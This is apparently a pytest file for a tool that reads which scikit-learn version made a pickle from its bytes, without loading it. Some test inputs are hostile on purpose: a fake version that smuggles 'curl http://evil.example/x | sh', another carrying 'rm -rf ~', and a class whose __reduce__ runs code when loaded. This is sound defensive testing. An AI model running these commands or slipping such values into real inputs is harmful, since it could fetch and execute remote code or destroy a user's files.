"""Which scikit-learn made a pickle: by its bytes alone, whatever they are."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devkit.diagnose import environment, pickles
from devkit.diagnose.case import Spot
from devkit.diagnose.raised import Raised
from tests.diagnosing import Files, made, places

STATE = {"coef_": [1.0, 2.0], "_sklearn_version": "1.5.2", "n_features_in_": 4}
KEY = b"_sklearn_version"
PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "plain": bytes,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lambda data: lzma.compress(data, preset=0),
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE, preset=0),
    "zlib": zlib.compress,
}


def version(tmp_path: Path, content: bytes) -> str | None:
    path = tmp_path / "m.pkl"
    path.write_bytes(content)
    return pickles.sklearn_version(path)


@pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
@pytest.mark.parametrize("packed", PACKERS)
def test_the_version_is_read_in_each_protocol_and_packing(
    tmp_path: Path, protocol: int, packed: str
) -> None:
    content = PACKERS[packed](pickle.dumps(STATE, protocol=protocol))
    assert version(tmp_path, content) == "1.5.2"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        # Python 2: SHORT_BINSTRING and STRING.
        (b"}(U\x10" + KEY + b"U\x060.19.1u.", "0.19.1"),
        (b"(dp0\nS'" + KEY + b"'\np1\nS'0.18'\np2\ns.", "0.18"),
        # BINUNICODE8.
        (b"}\x8d" + struct.pack("<Q", 16) + KEY + b"\x8c\x051.0.1s.", "1.0.1"),
        (b"\x80\x04\x8c\x10" + KEY + b"\x94\x8c\x081.6.dev0\x94s.", "1.6.dev0"),
        (b"csklearn.ensemble.forest\nRandomForestClassifier\n.", "0"),
        (b"csklearn.svm._classes\nSVC\n.", None),
        (b"", None),
        (b"\x80\x04N.", None),
    ],
)
def test_old_and_new_pickles_say_what_made_them(
    tmp_path: Path, content: bytes, expected: str | None
) -> None:
    assert version(tmp_path, content) == expected


@pytest.mark.parametrize(
    "after",
    [
        b"",
        b"\x94",
        b"\x94h\x05",
        b"\x94\x8c\x0en_features_in_\x94",
        b"\x94\x8c\x2a1.0; curl http://evil.example/x | sh #xxxx\x94",
        b"\x94\x8c\x071.\x1b[2J\x94",
        b"\x94\x8d" + b"\xff" * 8 + b"1.0",
        b"\x94X\xff\xff\xff\xff1.0",
        b"\x94T\xff\xff\xff\xff1.0",
        b"\x94I" + b"9" * 100,
        b"\x94\x8c\x04\xff\xfe\xfd\xfc",
        b"\x94V\\ud800\n",
        b"\x94\x8c\x03" + "1.٣".encode()[:3],
    ],
)
def test_a_key_that_no_version_follows_says_nothing(tmp_path: Path, after: bytes) -> None:
    assert version(tmp_path, b"\x80\x04}\x8c\x10" + KEY + after) is None


def test_a_key_in_a_text_does_not_hide_the_real_one(tmp_path: Path) -> None:
    content = b"about " + KEY + b" here" + pickle.dumps(STATE)
    assert version(tmp_path, content) == "1.5.2"


@pytest.mark.parametrize("shift", range(-140, 12))
def test_the_version_is_found_wherever_a_piece_ends(tmp_path: Path, shift: int) -> None:
    content = pickle.dumps({"_sklearn_version": "1.5.2"})
    padding = pickles._CHUNK + shift
    assert version(tmp_path, b"\0" * padding + content) == "1.5.2"


@pytest.mark.parametrize("packed", PACKERS)
def test_the_version_after_a_large_array_is_found(tmp_path: Path, packed: str) -> None:
    # What does not compress comes out of the unpackers in small pieces.
    content = os.urandom(2 << 20) + pickle.dumps(STATE)
    assert version(tmp_path, PACKERS[packed](content)) == "1.5.2"


@pytest.mark.parametrize("packed", [name for name in PACKERS if name != "plain"])
def test_a_packed_file_that_is_cut_or_broken_says_what_came_before(
    tmp_path: Path, packed: str
) -> None:
    whole = PACKERS[packed](pickle.dumps(STATE) + os.urandom(3 << 20))
    assert version(tmp_path, whole[: len(whole) // 2]) == "1.5.2"
    assert version(tmp_path, whole[:7]) is None
    assert version(tmp_path, whole[:6] + b"\xff" * 200) is None


class Runs:
    """Creates a file when it is loaded."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return os.mkdir, (str(self.path),)


def test_nothing_of_a_pickle_is_run(tmp_path: Path) -> None:
    trap = tmp_path / "ran"
    content = pickle.dumps({"_sklearn_version": "1.5.2", "model": Runs(trap)})
    assert version(tmp_path, content) == "1.5.2"
    files: Files = {"models/m.pkl": content, "requirements.txt": "scikit-learn==1.2\n"}
    case = made(tmp_path, files)
    assert places(environment.model_fits(case)) == [
        ("model-version-mismatch", "requirements.txt", 1)
    ]
    assert not trap.exists()
    pickle.load(io.BytesIO(content))
    assert trap.exists()


@pytest.mark.parametrize("packed", PACKERS)
def test_an_endless_file_is_read_up_to_a_limit_and_piece_by_piece(
    tmp_path: Path, packed: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pickles, "_MOST_BYTES", 4 << 20)
    path = tmp_path / "m.pkl"
    path.write_bytes(PACKERS[packed](bytes(32 << 20)))
    parts = list(map(len, pickles._parts(path)))
    assert max(parts) <= pickles._CHUNK + 200
    assert 4 << 20 <= sum(parts) < 6 << 20


def test_a_file_that_is_not_there_says_nothing(tmp_path: Path) -> None:
    assert pickles.sklearn_version(tmp_path / "missing.pkl") is None
    assert pickles.sklearn_version(tmp_path) is None


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    head=st.sampled_from(
        [b"", b"\x80\x04", b"\x1f\x8b\x08\0", b"BZh9", b"\xfd7zXZ\0", b"\x78\x9c", b"]\0\0"]
    ),
    body=st.lists(
        st.one_of(
            st.binary(max_size=60), st.sampled_from([KEY, b"\x8c\x10" + KEY, b"1.5", b"X", b"\n"])
        ),
        max_size=8,
    ),
)
def test_any_bytes_are_read_without_an_error(
    tmp_path: Path, head: bytes, body: list[bytes]
) -> None:
    found = version(tmp_path, head + b"".join(body))
    assert found is None or found == "0" or pickles._VERSION.fullmatch(found)


@pytest.mark.parametrize(
    ("made_by", "line", "severity"),
    [
        ("1.5.2", "scikit-learn==1.5.0", None),
        ("1.5.2", "scikit-learn==1.5.*", None),
        ("1.5.2", "scikit-learn>=1.4,<2", None),
        ("1.5.2", "scikit-learn", None),
        ("1.5.2", "scikit-learn~=1.5", None),
        ("1.5.2", "scikit-learn==1.2.2", "error"),
        ("1.2.2", "scikit-learn==1.5.2", "warning"),
        ("0.24.2", "scikit-learn==1.5.2", "error"),
        ("1.5.2", "scikit-learn<1.4", "error"),
        ("1.5.2", "scikit-learn>=1.2", None),
        ("1.2.2", "scikit-learn>=1.5", "warning"),
        ("0.24.2", "scikit-learn>=1.5", "error"),
        ("1.5.2", "numpy", "error"),
    ],
)
def test_a_model_fits_the_scikit_learn_that_is_asked_for(
    tmp_path: Path, made_by: str, line: str, severity: str | None
) -> None:
    content = pickle.dumps({"_sklearn_version": made_by})
    case = made(tmp_path, {"models/m.pkl": content, "requirements.txt": f"six\n{line}\n"})
    found = list(environment.model_fits(case))
    assert [f.severity for f in found] == ([severity] if severity else [])
    if line == "numpy":
        assert found[0].id == "model-package-missing"
        assert f'"scikit-learn=={made_by}"' in found[0].remedy
    elif found:
        assert places(found) == [("model-version-mismatch", "requirements.txt", 2)]
        assert f"was made by scikit-learn {made_by}" in found[0].title
        assert f'"scikit-learn=={".".join(made_by.split(".")[:2])}.*"' in found[0].remedy


def test_a_model_without_scikit_learn_needs_none(tmp_path: Path) -> None:
    case = made(tmp_path, {"models/m.pkl": pickle.dumps([1]), "requirements.txt": "numpy\n"})
    assert list(environment.model_fits(case)) == []


@pytest.mark.parametrize(
    "message",
    [
        "No module named 'sklearn.externals.joblib'",
        "No module named 'sklearn.ensemble.forest'",
        "node array from the pickle has an incompatible dtype:",
        "Can't get attribute 'DecisionTree' on <module 'sklearn.tree._classes' from 'x'>",
        "'SimpleImputer' object has no attribute '_fill_dtype'",
    ],
)
def test_an_unpickling_error_is_put_down_to_the_versions(tmp_path: Path, message: str) -> None:
    files: Files = {
        "models/m.pkl": pickle.dumps(STATE),
        "requirements.txt": "scikit-learn==1.2.2\n",
    }
    spot = Spot("score.py", 2, "init")
    found = environment.of_raised(made(tmp_path / "a", files), Raised("X", message), spot)
    assert found is not None
    assert places([found]) == [("model-version-mismatch", "requirements.txt", 1)]
    bare = environment.of_raised(made(tmp_path / "b"), Raised("X", message), spot)
    assert bare is not None
    assert places([bare]) == [("model-version-mismatch", "score.py", 2)]
    assert environment.of_raised(made(tmp_path / "b"), Raised("X", "else"), spot) is None


def test_a_version_that_is_none_is_not_put_into_a_remedy(tmp_path: Path) -> None:
    evil = "1.0; rm -rf ~"
    content = pickle.dumps({"_sklearn_version": evil})
    case = made(tmp_path, {"models/m.pkl": content, "requirements.txt": "numpy\n"})
    assert list(environment.model_fits(case)) == []
